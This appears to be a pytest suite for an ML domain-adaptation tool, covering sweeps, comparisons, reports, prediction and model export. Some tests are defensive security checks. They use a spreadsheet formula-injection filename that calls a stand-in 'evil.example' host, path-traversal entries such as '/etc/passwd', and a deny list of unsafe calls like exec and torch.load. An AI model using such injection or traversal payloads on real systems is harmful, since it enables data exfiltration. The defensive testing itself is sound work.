"""Using results: sweeps that share stages and resume, comparison tables, the HTML report in a real
browser, predictions on new images, and an export that loads without Adapt Anything."""

import ast
import csv
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import yaml
from conftest import aa, read_json
from PIL import Image

GRID = ["--grid", "uda.name=dann,symnets", "--grid", "ssl.name=fixmatch,mixmatch", "--seeds", "0"]


def members(root):
    return sorted(p.parent for p in root.glob("*/seed*/stages.json"))


def inode(path):
    return os.stat(path).st_ino


def assert_generated_once_and_adapted_twice(root):
    runs = members(root)
    assert len(runs) == 4 and all((run / "metrics.json").is_file() for run in runs)
    sample = sorted((runs[0] / "source").rglob("*.png"))[:5]
    for image in sample:  # every run's source is the same files: hard links, not copies
        assert len({inode(run / "source" / image.relative_to(runs[0] / "source")) for run in runs}) == 1
    assert len({inode(run / "source_only.safetensors") for run in runs}) == 1
    assert len({inode(run / "adapt.safetensors") for run in runs}) == 2  # one per UDA algorithm
    assert len({inode(run / "refine.safetensors") for run in runs}) == 4
    logs = "".join((run / "sweep.log").read_text() for run in runs if (run / "sweep.log").exists())
    assert logs.count("[generate] done") == 1 and logs.count("[adapt] done") == 2
    for run in runs:  # the shared stages are recorded as such
        state = read_json(run / "stages.json")
        assert set(state) == {"prompts", "generate", "source_only", "adapt", "refine", "evaluate"}


@pytest.fixture(scope="module")
def four_runs(tmp_path_factory):
    """2 UDA x 2 SSL algorithms, seed 0, swept once for every test that reads them: killed (the
    sweep's process group) while the first adaptation trains, then resumed to the end. Returns the
    root, the resumed sweep's output, and whether every run had finished when it was killed."""
    from conftest import TINY

    root = tmp_path_factory.mktemp("four")
    (root / "tiny.yaml").write_text(yaml.safe_dump(TINY))
    sweep = root / "sweep"
    env = {k: v for k, v in os.environ.items() if not k.startswith("AA_")} | {"PYTHONPATH": ""}
    cmd = [sys.executable, "-m", "aa_cli.main", "sweep", str(sweep), *GRID, "--config", str(root / "tiny.yaml")]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env, start_new_session=True)
    deadline = time.monotonic() + 300
    while time.monotonic() < deadline and not any("[adapt] running" in p.read_text() for p in sweep.glob("*/seed*/sweep.log")):
        time.sleep(0.1)
    os.killpg(proc.pid, signal.SIGKILL)  # the sweep and the run it was in
    proc.wait()
    finished_when_killed = all((run / "metrics.json").is_file() for run in members(sweep))
    return sweep, aa("sweep", sweep, check=0), finished_when_killed


def test_a_sweep_generates_once_adapts_once_per_algorithm_and_compares_four_rows(four_runs):
    root, proc, _ = four_runs
    assert "4 of 4 runs done" in proc.stdout
    assert_generated_once_and_adapted_twice(root)
    record = read_json(root / "sweep.json")
    assert record["grid"] == {"uda.name": ["dann", "symnets"], "ssl.name": ["fixmatch", "mixmatch"]} and len(record["status"]) == 4

    table = aa("compare", root, check=0)
    with open(root / "compare.csv") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 4 and {r["seeds"] for r in rows} == {"1"}
    labels = {r["configuration"] for r in rows}
    assert any("ssl.name=mixmatch" in label and "uda.name=symnets" in label for label in labels)
    metrics = read_json(root / "uda.name=dann__ssl.name=fixmatch" / "seed0" / "metrics.json")
    dann_fixmatch = next(r for r in rows if "uda.name=dann" in r["configuration"] and "ssl.name=fixmatch" in r["configuration"])
    assert dann_fixmatch["refine"] == f"{metrics['target_accuracy']['refine']:.4f} ± 0.0000"
    assert (root / "compare.md").read_text().count("\n") == 6 and "| configuration |" in table.stdout

    again = aa("sweep", root, check=0)  # from sweep.json: everything is reused
    assert "4 of 4 runs done" in again.stdout
    assert_generated_once_and_adapted_twice(root)


def test_an_interrupted_sweep_resumes_and_still_shares(four_runs):
    root, resumed, finished_when_killed = four_runs
    assert not finished_when_killed
    assert "4 of 4 runs done" in resumed.stdout
    assert_generated_once_and_adapted_twice(root)


def test_a_failed_run_is_recorded_and_the_others_go_on(tmp_path, tiny_config):
    root = tmp_path / "sweep"
    proc = aa("sweep", root, "--grid", "uda.name=none,nosuch", "--set", "ssl.name=none", "--config", tiny_config)
    assert proc.returncode == 1
    status = read_json(root / "sweep.json")["status"]
    assert status["uda.name=none/seed0"] == "done"
    assert status["uda.name=nosuch/seed0"].startswith("failed: error: unknown uda 'nosuch'. Choose one of: ")
    assert "1 of 2 runs done" in proc.stdout and "uda.name=nosuch/seed0: failed" in proc.stderr


def test_with_devices_the_runs_of_a_phase_go_one_per_device_at_once(tmp_path, tiny_config, small_target):
    root = tmp_path / "sweep"
    sets = ["--set", "uda.name=none", "--set", f"data.target={small_target}", "--config", tiny_config]
    # two CPU "devices" here: one thread each, as two runs share the two cores
    proc = aa("sweep", root, "--grid", "ssl.name=none,fixmatch", *sets, "--devices", "0,1", env={"OMP_NUM_THREADS": "1"}, check=0)
    assert "2 of 2 runs done" in proc.stdout
    last = [(run / "sweep.log").read_text().split("$ ")[-1] for run in members(root)]
    assert sorted(line.split()[0] for line in last) == ["CUDA_VISIBLE_DEVICES=0", "CUDA_VISIBLE_DEVICES=1"]


def fake_run(folder, seed, uda, accuracy, seconds):
    folder.mkdir(parents=True)
    (folder / "config.yaml").write_text(yaml.safe_dump({"seed": seed, "uda": {"name": uda}, "ssl": {"name": "none"}}))
    metrics = {"target_accuracy": {"source_only": 0.5, "adapt": accuracy}, "dev_accuracy": {"source_only": 0.4, "adapt": accuracy - 0.1},
               "final": {"model": "adapt"}, "seconds": {"adapt": seconds}}  # fmt: skip
    (folder / "metrics.json").write_text(json.dumps(metrics))


def test_compare_averages_seeds_per_configuration(tmp_path):
    for seed, (a, b) in enumerate([(0.8, 0.9), (0.9, 0.7)]):
        fake_run(tmp_path / "dann" / f"s{seed}", seed, "dann", a, 10.0)
        fake_run(tmp_path / "mcd" / f"s{seed}", seed, "mcd", b, 20.0)
    proc = aa("compare", tmp_path / "dann", tmp_path / "mcd", "--out", tmp_path, check=0)
    rows = {r["configuration"]: r for r in csv.DictReader(open(tmp_path / "compare.csv"))}
    assert set(rows) == {"uda.name=dann", "uda.name=mcd"}
    assert rows["uda.name=dann"]["adapt"] == "0.8500 ± 0.0707" and rows["uda.name=dann"]["seeds"] == "2"
    assert rows["uda.name=mcd"]["adapt"] == "0.8000 ± 0.1414" and rows["uda.name=mcd"]["seconds"] == "20.0"
    assert rows["uda.name=dann"]["dev adapt"] == "0.7500 ± 0.0707" and rows["uda.name=dann"]["dev source_only"] == "0.4000 ± 0.0000"
    assert rows["uda.name=mcd"]["final"] == rows["uda.name=mcd"]["adapt"]
    assert rows["uda.name=mcd"]["refine"] == "" and "uda.name=mcd" in proc.stdout
    missing = aa("compare", tmp_path / "nowhere")
    assert missing.returncode == 1
    assert missing.stderr.strip() == f"error: {tmp_path / 'nowhere'} does not exist; name run folders or folders holding them"


def labelled_run(folder, uda, seed, final, snd, entropy, infomax, dev, predicted=("x", "x", "y", "y"), confidence=0.9):
    """A finished run's record: ``final`` kept, its criteria, dev accuracy and predictions of four
    images as given; the other model's are extreme, so reading them instead would change every
    pick and regret below."""
    other = "refine" if final == "adapt" else "adapt"
    folder.mkdir(parents=True)
    (folder / "config.yaml").write_text(yaml.safe_dump({"seed": seed, "uda": {"name": uda}}))
    metrics = {"final": {"model": final, "reason": "given"}, "seconds": {"adapt": 1.0},
               "label_free": {final: {"snd": snd, "entropy": entropy, "infomax": infomax}, other: {"snd": 9, "entropy": 9, "infomax": 9}},
               "target_accuracy": {final: round(dev - 0.05, 4), other: 0.99}, "dev_accuracy": {final: dev, other: 0.99}}  # fmt: skip
    (folder / "metrics.json").write_text(json.dumps(metrics))
    rows = "".join(f"{image},{category},{confidence}\n" for image, category in zip("abcd", predicted))
    (folder / "predictions.csv").write_text("image,predicted,confidence\n" + rows)


def test_compare_select_ranks_by_the_final_models_criterion_over_seeds_and_gives_the_regret(tmp_path):
    runs = {  # (final model, snd, entropy, infomax, dev accuracy) of seeds 0 and 1
        "dann": [("adapt", 1.0, -1.0, 0.3, 0.80), ("refine", 3.0, -1.0, 0.5, 0.90)],  # snd 2.0, infomax 0.4, dev 0.85
        "mcd": [("adapt", 2.5, -2.0, 0.1, 0.70), ("adapt", 2.5, -2.0, 0.1, 0.74)],  # snd 2.5, dev 0.72
        "symnets": [("refine", 1.5, -0.5, 0.2, 0.60), ("adapt", 2.0, -0.5, 0.2, 0.62)],  # snd 1.75, entropy -0.5, dev 0.61
    }
    for uda, seeds in runs.items():
        for seed, values in enumerate(seeds):
            labelled_run(tmp_path / "sweep" / uda / f"seed{seed}", uda, seed, *values)
    proc = aa("compare", tmp_path / "sweep", "--select", "snd", check=0)
    rows = list(csv.DictReader(open(tmp_path / "sweep" / "compare.csv")))
    assert [(r["rank"], r["pick"], r["configuration"], r["snd"]) for r in rows] == [
        ("1", "*", "uda.name=mcd", "2.5000 ± 0.0000"),
        ("2", "", "uda.name=dann", "2.0000 ± 1.4142"),
        ("3", "", "uda.name=symnets", "1.7500 ± 0.3536"),
    ]
    assert rows[0]["dev final"] == "0.7200 ± 0.0283" and rows[1]["final"] == "0.8000 ± 0.0707"
    # the final model's regret among the run's own models: the other one scores 0.99 on both halves
    assert rows[0]["dev final regret"] == "0.2700 ± 0.0283" and rows[0]["final regret"] == "0.3200 ± 0.0283"
    lines = proc.stdout.splitlines()
    assert "picked by snd: uda.name=mcd" in lines
    assert "best by dev accuracy: uda.name=dann; regret 0.1300 (dev accuracy given up)" in lines
    regrets = (tmp_path / "sweep" / "compare.md").read_text().split("\n\n")[1].splitlines()
    assert regrets[0] == "| criterion | pick | dev final | regret | final |"
    assert regrets[2:] == [
        "| entropy | uda.name=symnets | 0.6100 | 0.2400 | 0.5600 |",
        "| infomax | uda.name=dann | 0.8500 | 0.0000 | 0.8000 |",
        "| snd | uda.name=mcd | 0.7200 | 0.1300 | 0.6700 |",
        "| ensv | uda.name=dann | 0.8500 | 0.0000 | 0.8000 |",  # every run predicts alike: a tie, the table's first
        "| dev accuracy (labels) | uda.name=dann | 0.8500 | 0.0000 | 0.8000 |",
    ]

    from aa_core.errors import AAError
    from aa_results.compare import configurations, find_runs
    from aa_results.label_free import choose, regret_rows

    metrics = read_json(tmp_path / "sweep" / "mcd" / "seed1" / "metrics.json")
    del metrics["dev_accuracy"]  # a target without labels: a ranking, no regret
    (tmp_path / "sweep" / "mcd" / "seed1" / "metrics.json").write_text(json.dumps(metrics))
    groups = configurations(find_runs([tmp_path / "sweep"]))
    unlabelled = choose(groups, "snd")
    assert (unlabelled.pick, unlabelled.regret, regret_rows(groups)) == ("uda.name=mcd", None, [])
    del metrics["label_free"]  # written before label-free criteria were recorded
    (tmp_path / "sweep" / "mcd" / "seed1" / "metrics.json").write_text(json.dumps(metrics))
    with pytest.raises(AAError) as caught:
        choose(configurations(find_runs([tmp_path / "sweep"])), "snd")
    folder = tmp_path / "sweep" / "mcd" / "seed1"
    assert str(caught.value) == (f"{folder} records no label-free criteria of its final model (metrics.json from an older aa); "
                                 f"rerun its evaluate stage with `aa evaluate {folder}`")  # fmt: skip


def test_compare_select_ensv_ranks_runs_by_agreement_with_the_confidence_weighted_ensemble_of_all_runs(tmp_path):
    runs = {  # (predictions of images a-d, confidence) of seeds 0 and 1; dev accuracy makes mcd best
        "dann": (("x", "x", "y", "y"), 0.9, 0.80),
        "mcd": (("x", "y", "y", "y"), 0.6, 0.90),
        "symnets": (("y", "y", "x", "y"), 0.2, 0.70),
    }
    for uda, (predicted, confidence, dev) in runs.items():
        for seed in (0, 1):
            labelled_run(tmp_path / "sweep" / uda / f"seed{seed}", uda, seed, "adapt", 1.0, -1.0, 0.3, dev, predicted, confidence)
    # image b: 4 votes for y (mcd, symnets) but x carries 2 x 0.9 = 1.8 > 2 x 0.6 + 2 x 0.2 = 1.6 -> x;
    # the ensemble is x x y y: dann agrees on 4 of 4, mcd on 3, symnets on 1 (a plain vote would pick mcd)
    proc = aa("compare", tmp_path / "sweep", "--select", "ensv", check=0)
    rows = list(csv.DictReader(open(tmp_path / "sweep" / "compare.csv")))
    assert [(r["rank"], r["pick"], r["configuration"], r["ensv"]) for r in rows] == [
        ("1", "*", "uda.name=dann", "1.0000 ± 0.0000"),
        ("2", "", "uda.name=mcd", "0.7500 ± 0.0000"),
        ("3", "", "uda.name=symnets", "0.2500 ± 0.0000"),
    ]
    assert "best by dev accuracy: uda.name=mcd; regret 0.1000 (dev accuracy given up)" in proc.stdout.splitlines()
    (tmp_path / "sweep" / "mcd" / "seed1" / "predictions.csv").write_text("image,predicted,confidence\na,x,0.5\n")
    other = aa("compare", tmp_path / "sweep", "--select", "ensv")
    assert other.returncode == 1 and other.stderr.strip() == (
        f"error: {tmp_path / 'sweep' / 'mcd' / 'seed1'} predicted other images than the other runs; "
        "--select ensv compares runs on one target")
    (tmp_path / "sweep" / "mcd" / "seed1" / "predictions.csv").unlink()
    missing = aa("compare", tmp_path / "sweep", "--select", "ensv")
    folder = tmp_path / "sweep" / "mcd" / "seed1"
    assert missing.returncode == 1 and missing.stderr.strip() == (
        f"error: {folder / 'predictions.csv'} is missing; run `aa evaluate {folder}` to write it again, or leave the run out")


def test_compare_select_on_a_real_sweep_picks_the_highest_snd_of_the_final_models(four_runs):
    root, _, _ = four_runs
    out = root.parent / "select"
    proc = aa("compare", root, "--select", "snd", "--out", out, check=0)
    rows = list(csv.DictReader(open(out / "compare.csv")))
    snd, dev = {}, {}  # by hand, from each run's metrics.json
    for run in members(root):
        metrics = read_json(run / "metrics.json")
        final = metrics["final"]["model"]
        label = " ".join(sorted(run.parent.name.split("__")))
        snd[label], dev[label] = metrics["label_free"][final]["snd"], metrics["dev_accuracy"][final]
    assert [float(r["snd"].split(" ± ")[0]) for r in rows] == [round(v, 4) for v in sorted(snd.values(), reverse=True)]
    assert rows[0]["pick"] == "*" and not any(r["pick"] for r in rows[1:]) and snd[rows[0]["configuration"]] == max(snd.values())
    assert f"picked by snd: {rows[0]['configuration']}" in proc.stdout
    assert f"regret {max(dev.values()) - dev[rows[0]['configuration']]:.4f} (dev accuracy given up)" in proc.stdout


# --- the report, in a real browser ------------------------------------------------------------

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
HEADLESS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
            "--disable-component-update", "--disable-sync"]  # fmt: skip


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (apt-get install chromium)")
def test_the_report_renders_in_chromium_with_every_image_and_plot_loaded(tmp_path, tiny_config, small_target):
    out = tmp_path / "run"
    aa("run", "--config", tiny_config, "--target", small_target, "--out", out, check=0)
    aa("report", out, check=0)
    page = (out / "report.html").read_text()
    assert "http://" not in page and "https://" not in page  # nothing to fetch: it reads offline
    browser = [CHROMIUM, *HEADLESS]
    dom = subprocess.run([*browser, f"--user-data-dir={tmp_path / 'c1'}", "--dump-dom", (out / "report.html").as_uri()],
                         capture_output=True, text=True, timeout=120).stdout  # fmt: skip
    title = dom.split("<title>")[1].split("</title>")[0]
    shown, total = map(int, title.removeprefix("images loaded: ").split("/"))
    # 10 categories x 6 synthetic images, 60 target images, 3 training curves, 1 confusion matrix
    assert shown == total == 60 + 60 + 3 + 1
    shot = tmp_path / "report.png"
    subprocess.run([*browser, f"--user-data-dir={tmp_path / 'c2'}", "--window-size=1200,2400", f"--screenshot={shot}",
                    (out / "report.html").as_uri()], capture_output=True, timeout=120)  # fmt: skip
    pixels = np.asarray(Image.open(shot).convert("L"))
    assert pixels.shape == (2400, 1200) and pixels.std() > 20  # a page with pictures, not a blank one


# --- predict and export ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def finished_run(tmp_path_factory, small_target):
    root = tmp_path_factory.mktemp("finished")
    from conftest import TINY

    (root / "tiny.yaml").write_text(yaml.safe_dump(TINY))
    out = root / "run"
    aa("run", "--config", root / "tiny.yaml", "--target", small_target, "--out", out, "--uda", "mcd", check=0)
    return out


def test_predict_gives_each_image_the_category_the_run_gave_it(finished_run, small_target, tmp_path):
    proc = aa("predict", finished_run, small_target / "3", small_target / "7" / sorted(os.listdir(small_target / "7"))[0], check=0)
    lines = [line.split("\t") for line in proc.stdout.splitlines()]
    assert len(lines) == 7
    expected = {r["image"]: r["predicted"] for r in csv.DictReader(open(finished_run / "predictions.csv"))}
    for path, category, confidence in lines:
        assert expected[os.path.relpath(path, small_target)] == category and 0 < float(confidence) <= 1
    aa("predict", finished_run, small_target, "--out", tmp_path / "p.csv", check=0)
    assert len(list(csv.DictReader(open(tmp_path / "p.csv")))) == 60
    bad = aa("predict", finished_run, tmp_path / "nothing.png")
    assert bad.returncode == 1
    assert bad.stderr.strip().endswith("is neither an image file nor a folder; name image files or folders of images")


def test_a_run_of_a_release_whose_network_differs_retrains_and_its_weights_are_refused_in_one_line(finished_run, small_target, tmp_path):
    import torch
    from safetensors.torch import load_file, save_file

    import aa_core
    from aa_core.config import load_config
    from aa_core.fingerprints import fingerprints, source_only_fingerprint
    from aa_core.pipeline import context, read_config
    from aa_core.run_folder import RunFolder

    def stage_fingerprints() -> list[str]:
        ctx = context(load_config(base=read_config(RunFolder(finished_run))), finished_run)
        return [*fingerprints(ctx, ["prompts", "generate", "adapt", "refine"]).values(), source_only_fingerprint(ctx)]

    now = stage_fingerprints()
    version, aa_core.__version__ = aa_core.__version__, "0.1.0"  # the release whose small CNN was 16 wide
    try:
        before = stage_fingerprints()
    finally:
        aa_core.__version__ = version
    assert [a == b for a, b in zip(before, now)] == [True, True, False, False, False]  # its images stay; its networks retrain

    old = tmp_path / "old"
    shutil.copytree(finished_run, old)
    final = old / f"{read_json(old / 'metrics.json')['final']['model']}.safetensors"
    tensors = load_file(final)
    tensors["backbone.features.0.weight"] = torch.zeros(16, 1, 3, 3)  # the first convolution as 0.1 saved it
    save_file(tensors, final)
    proc = aa("predict", old, small_target / "3")
    assert proc.returncode == 1 and "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert f"the weights in {final} do not fit the network this version builds (size mismatch for backbone.features.0.weight" in proc.stderr
    assert proc.stderr.strip().endswith(f"run `aa run --out {old}` again to retrain what changed")


MODELING_IMPORTS = {"__future__", "json", "functools", "pathlib", "numpy", "timm", "torch", "PIL", "safetensors"}


def calls_and_imports(source):
    """The dotted names a module calls and the top-level modules it imports."""
    tree = ast.parse(source)
    calls = {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}
    imports = {a.name.split(".")[0] for node in ast.walk(tree) if isinstance(node, ast.Import) for a in node.names}
    imports |= {node.module.split(".")[0] for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
    return calls, imports


def test_an_export_is_weights_and_a_description_and_predicts_as_the_run_did_without_adapt_anything(finished_run, small_target, tmp_path):
    out = tmp_path / "export"
    aa("export", finished_run, out, check=0)
    assert {p.name for p in out.iterdir()} == {"model.safetensors", "config.json", "modeling.py", "README.md"}
    config = read_json(out / "config.json")
    assert config["backbone"] == {"name": "aa_small_cnn", "in_chans": 1, "num_features": 128}
    assert [layer["type"] for layer in config["bottleneck"]["layers"]] == ["linear", "batch_norm", "relu"]
    head = config["head"]  # MCD's two classifiers, read through their mean probability
    assert head["type"] == "mean_of_probabilities" and list(head["parts"]) == ["c1", "c2"]
    c1 = head["parts"]["c1"]["layers"]
    assert [layer["type"] for layer in c1] == ["dropout", "linear", "batch_norm", "relu"] * 2 + ["dropout", "linear"]
    assert (c1[1]["in_features"], c1[1]["out_features"], c1[-1]["out_features"], c1[0]["p"]) == (256, 256, 10, 0.5)
    assert config["classes"] == [str(k) for k in range(10)] and config["preprocessing"]["image_size"] == 8
    calls, imports = calls_and_imports((out / "modeling.py").read_text())
    assert imports <= MODELING_IMPORTS  # no importlib, pickle, runpy
    assert not calls & {"exec", "eval", "compile", "__import__", "torch.load", "torch.jit.load", "torch.jit.script", "open"}

    card = (out / "README.md").read_text()
    metrics = read_json(finished_run / "metrics.json")
    assert "`mcd`" in card and "`glyph`" in card and f"refine {metrics['target_accuracy']['refine']:.4f}" in card
    for text in (card, (out / "config.json").read_text()):  # no folder of this machine
        assert str(finished_run) not in text and str(small_target) not in text and str(tmp_path) not in text

    # a backbones.py or head.pt put beside it is never run: modeling.py reads the description alone
    marker = tmp_path / "ran"
    (out / "backbones.py").write_text(f"open({str(marker)!r}, 'w')\n")
    (out / "head.pt").write_bytes(b"not read")
    hide = tmp_path / "hide" / "aa_core"
    hide.mkdir(parents=True)
    (hide / "__init__.py").write_text("raise ImportError('Adapt Anything is not installed here')\n")
    rows = list(csv.DictReader(open(finished_run / "predictions.csv")))
    paths = [str(small_target / r["image"]) for r in rows]
    script = f"""
import json, sys
sys.path.insert(0, {str(out)!r})
import modeling
predicted = modeling.predict({str(out)!r}, json.loads(sys.argv[1]))
print(json.dumps(predicted))
assert not [m for m in sys.modules if m.startswith(("aa_core", "aa_uda", "aa_ssl", "backbones"))]
"""
    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(hide.parent)}
    proc = subprocess.run([sys.executable, "-c", script, json.dumps(paths)], capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 0, proc.stderr[-2000:]
    predicted = json.loads(proc.stdout)
    assert [p[0] for p in predicted] == [r["predicted"] for r in rows] and not marker.exists()
    labels = [r["image"].split("/")[0] for r in rows]
    accuracy = round(sum(p[0] == y for p, y in zip(predicted, labels)) / len(rows), 4)
    assert accuracy == metrics["target_accuracy"][metrics["final"]["model"]]  # the kept stage's, refine or adapt
    from aa_core.runs import Run
    from aa_results.predict import Predictor

    own = Predictor(Run.open(finished_run)).predict([Path(p) for p in paths])  # the run's model, in this process
    assert max(abs(p[1] - q.confidence) for p, q in zip(predicted, own)) < 1e-5


@pytest.mark.parametrize("name, width", [("aa_small_cnn", None), ("aa_small_cnn", 16), ("aa_vit_tiny", None)])
@pytest.mark.parametrize("channels", [1, 3])
def test_modeling_builds_adapt_anythings_own_backbones_as_the_core_does(name, width, channels):
    """modeling.py writes them out instead of shipping the core's module: same weights, same outputs,
    an export of 0.1 (a small CNN 16 wide, 64 features) included."""
    import timm
    import torch

    import aa_core.models.small_cnn  # noqa: F401  (registers the core's with timm)
    import aa_core.models.tiny_vit  # noqa: F401
    from aa_results.export_modeling import build_backbone

    torch.manual_seed(0)
    if width is None:
        core = timm.create_model(name, pretrained=False, num_classes=0, in_chans=channels).eval()
    else:
        core = aa_core.models.small_cnn.SmallCNN(in_chans=channels, width=width).eval()
    written_out = build_backbone({"name": name, "in_chans": channels, "num_features": core.num_features}).eval()
    written_out.load_state_dict(core.state_dict())  # strict: the same parameter names and shapes
    x = torch.randn(3, channels, 12, 12)
    with torch.no_grad():
        assert torch.equal(core(x), written_out(x))


def test_an_export_refuses_a_layer_it_cannot_describe_in_one_line():
    from torch import nn

    from aa_core.errors import AAError
    from aa_results.export import describe

    assert describe(nn.Sequential(nn.Linear(4, 2), nn.ReLU())) == {
        "type": "sequential",
        "layers": [{"type": "linear", "in_features": 4, "out_features": 2, "bias": True}, {"type": "relu"}],
    }
    with pytest.raises(AAError) as caught:
        describe(nn.Sequential(nn.Linear(4, 2), nn.GELU()))
    assert str(caught.value) == (
        "cannot export a torch.nn.modules.activation.GELU layer: config.json describes Linear, BatchNorm1d, ReLU, Dropout "
        "and Sequential, and a module whose exported(describe) method says what it computes in those terms "
        "(docs/writing-a-plugin.md); give GELU that method"
    )


def test_the_export_tools_name_no_class_of_a_builtin_plugin():
    text = (Path(__file__).parent.parent / "results" / "aa_results" / "export.py").read_text()
    assert "SumOfClassifiers" not in text and "TargetHalf" not in text


@pytest.mark.parametrize("uda", ["twoheads", "opaque"])
def test_a_third_party_algorithms_own_head_exports_where_it_says_how(tmp_path, tiny_config, small_target, uda):
    run, out = tmp_path / "run", tmp_path / "export"
    aa("run", "--config", tiny_config, "--target", small_target, "--out", run, "--uda", uda, "--ssl", "none", fakes=["ownhead"], check=0)
    proc = aa("export", run, out, fakes=["ownhead"])
    if uda == "opaque":  # its head has no exported(): one line, nothing written
        assert proc.returncode == 1 and not out.exists()
        assert proc.stderr.strip().startswith("error: cannot export a aa_fake_ownhead.twoheads.Scaled layer")
        assert proc.stderr.strip().endswith("give Scaled that method")
        return
    assert proc.returncode == 0, proc.stderr[-2000:]
    head = read_json(out / "config.json")["head"]
    assert head["type"] == "mean_of_probabilities" and list(head["parts"]) == ["first", "second"]
    assert [layer["type"] for layer in head["parts"]["second"]["layers"]] == ["relu", "linear"]
    import sys as system

    rows = list(csv.DictReader(open(run / "predictions.csv")))
    system.path.insert(0, str(out))
    try:
        import modeling

        predicted = modeling.predict(out, [small_target / r["image"] for r in rows])
    finally:
        system.path.remove(str(out))
        system.modules.pop("modeling", None)
    assert [p[0] for p in predicted] == [r["predicted"] for r in rows]  # as the run's own model predicted
    assert max(abs(p[1] - float(r["confidence"])) for p, r in zip(predicted, rows)) <= 5e-5


def test_an_export_card_names_local_models_and_folders_by_their_name_alone(finished_run, small_target, tmp_path):
    def export_with(name, **changes):
        run = tmp_path / name
        shutil.copytree(finished_run, run)
        config = yaml.safe_load((run / "config.yaml").read_text())
        for key, value in changes.items():
            section, option = key.split("__")
            config[section][option] = value
        (run / "config.yaml").write_text(yaml.safe_dump(config))
        aa("export", run, tmp_path / f"{name}-export", check=0)
        card = (tmp_path / f"{name}-export" / "README.md").read_text()
        assert str(tmp_path) not in card and "/home/" not in card and str(small_target) not in card
        return card

    card = export_with("generated", generator__model="/home/someone/private/fonts/MyHand.ttf", prompts__model="openai/gpt-4o-mini")
    assert "from `glyph`, model `MyHand.ttf`, prompts from `template` (`openai/gpt-4o-mini`)" in card  # a hub id as it is
    card = export_with("real", data__source=str(small_target))
    assert f"- **Source:** a real labelled image folder (`{small_target.name}`)." in card


def test_a_private_push_makes_an_existing_repository_private_before_anything_is_uploaded(tmp_path):
    from huggingface_hub import HfApi

    from aa_results.export import hub_calls

    calls = hub_calls(HfApi(), tmp_path, "me/digits", private=True)
    assert calls == [
        ("create_repo", {"repo_id": "me/digits", "private": True, "exist_ok": True}),  # leaves an existing repository as it is
        ("update_repo_settings", {"repo_id": "me/digits", "private": True}),
        ("upload_folder", {"folder_path": str(tmp_path), "repo_id": "me/digits", "commit_message": "Adapt Anything export"}),
    ]
    public = hub_calls(HfApi(), tmp_path, "me/digits", private=False)
    assert [method for method, _ in public] == ["create_repo", "upload_folder"]  # a private repository is never made public

    class OlderHub:  # huggingface_hub before update_repo_settings
        def create_repo(self, repo_id, *, private=False, exist_ok=False): ...
        def update_repo_visibility(self, repo_id, private=False): ...
        def upload_folder(self, *, repo_id, folder_path, commit_message=None): ...

    older = hub_calls(OlderHub(), tmp_path, "me/digits", private=True)
    assert older[1] == ("update_repo_visibility", {"repo_id": "me/digits", "private": True})


def test_predict_csv_writes_text_a_spreadsheet_would_run_as_a_formula_as_text(finished_run, small_target, tmp_path):
    digit = small_target / "3" / sorted(os.listdir(small_target / "3"))[0]
    names = ['=HYPERLINK("evil.example?x="&A1,"open").png', "+1.png", "-1.png", "@SUM(A1).png", "\tx.png", "\rx.png", "plain.png"]
    for name in names:
        shutil.copyfile(digit, tmp_path / name)
    (tmp_path / "folder").mkdir()
    shutil.copyfile(digit, tmp_path / "folder" / "=A1.png")
    aa("predict", finished_run, "--out", "p.csv", "--", *names, "folder", cwd=tmp_path, check=0)
    with open(tmp_path / "p.csv", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["image", "predicted", "confidence"]
    assert [r[0] for r in rows[1:]] == ["'" + n for n in names[:-1]] + ["plain.png", "folder/=A1.png"]  # only a cell's start counts
    expected = {r["image"]: r["predicted"] for r in csv.DictReader(open(finished_run / "predictions.csv"))}
    assert {r[1] for r in rows[1:]} == {expected[str(digit.relative_to(small_target))]}


def test_a_report_embeds_nothing_a_crafted_run_folder_names_outside_it(finished_run, small_target, tmp_path):
    from aa_results.report import data_uri

    run = tmp_path / "crafted"
    shutil.copytree(finished_run, run)
    secret = tmp_path / "secret.png"
    Image.fromarray(np.arange(64, dtype=np.uint8).reshape(8, 8) * 4).save(secret)
    (run / "source" / "0" / "link.png").symlink_to(secret)
    metadata = run / "source" / "metadata.jsonl"
    names = ["/etc/passwd", str(secret), "../../secret.png", "0/link.png"]
    crafted = "".join(json.dumps({"file_name": n, "label": "0", "prompt": "CRAFTED-ROW"}) + "\n" for n in names)
    metadata.write_text(crafted + metadata.read_text())  # first, where the report takes a category's images from
    with open(run / "predictions.csv", "a", newline="") as f:
        csv.writer(f).writerows([["/etc/passwd", "0", "0.9"], [os.path.relpath(secret, small_target), "0", "0.9"]])
    aa("report", run, check=0)
    page = (run / "report.html").read_text()
    assert data_uri(Image.open(secret)) not in page and "CRAFTED-ROW" not in page
    assert page.count('<figure class="tile"') == 60 + 60  # 6 synthetic images per category, 60 target images, as before
    assert "4 image(s) named by source/metadata.jsonl were left out: they lie outside the run folder or do not open as images." in page
    assert "2 image(s) named by predictions.csv were left out: they lie outside the target folder or do not open as images." in page

    outside = tmp_path / "metrics.json"
    shutil.move(run / "metrics.json", outside)
    (run / "metrics.json").symlink_to(outside)
    proc = aa("report", run)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert proc.stderr.strip().splitlines()[-1] == (
        f"error: {run / 'metrics.json'} links outside the run folder (to {outside.resolve()}); aa report reads only files inside {run}: "
        "put the file itself there"
    )


def test_an_export_into_a_used_folder_or_a_failed_push_is_one_line(finished_run, tmp_path):
    used = tmp_path / "used"
    used.mkdir()
    (used / "keep.txt").write_text("mine\n")
    proc = aa("export", finished_run, used)
    assert proc.returncode == 1 and proc.stderr.strip() == f"error: {used} is not empty; export into a new or empty folder"
    assert (used / "keep.txt").read_text() == "mine\n"
